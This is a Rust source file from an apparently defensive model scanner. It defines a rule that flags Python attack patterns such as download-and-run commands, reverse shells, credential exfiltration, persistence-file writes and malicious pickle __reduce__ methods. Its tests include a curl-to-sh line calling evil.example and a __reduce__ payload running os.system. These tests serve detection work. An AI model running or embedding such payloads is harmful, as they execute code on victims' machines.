//! Shapes that only attacks have.

use ma_core::{Issue, declare_rule};

use super::issue;
use crate::source::{Reason, SourceFinding};

declare_rule! {
    /// ## What it finds
    /// Commands that download a script and run it, reverse shells, credentials or the whole environment sent over the network, writes to files that run by themselves (`.bashrc`, `crontab`, `authorized_keys`), and `__reduce__` methods that make whoever unpickles the object start a program.
    /// ## Why it matters
    /// None of this belongs to a model. It does its harm as soon as the function it is in is called, and frameworks call many functions by themselves.
    /// ## What it leaves alone
    /// Downloads as such, single environment variables, `__reduce__` that rebuilds its own object.
    /// ## What to do
    /// Do not load the model. Report the repository.
    pub static ATTACK = {
        code: "PY003", name: "python-attack-pattern", severity: Critical,
        title: "Has the shape of an attack",
        references: [Cwe(506)],
    }
}

/// Fires on findings of its reason; their severity is their own.
#[must_use]
pub fn check(finding: &SourceFinding) -> Option<Issue> {
    (finding.reason == Reason::Attack).then(|| issue(&ATTACK, finding))
}

#[cfg(test)]
mod tests {
    use ma_core::Severity;

    use crate::source::rules::tests::fired;

    #[test]
    fn fires_and_stays_silent() {
        let rule = "python-attack-pattern";
        assert_eq!(
            fired(
                rule,
                "import os\ndef f():\n    os.system('curl http://evil.example/x | sh')"
            ),
            Some(Severity::Critical)
        );
        assert_eq!(
            fired(
                rule,
                "import os\nclass P:\n    def __reduce__(self):\n        return os.system, ('echo pwned',)"
            ),
            Some(Severity::Critical)
        );
        assert_eq!(
            fired(
                rule,
                "class P:\n    def __reduce__(self):\n        return P, (1,)"
            ),
            None
        );
        assert_eq!(
            fired(
                rule,
                "import requests\ndef f(u):\n    return requests.get(u)"
            ),
            None
        );
    }
}
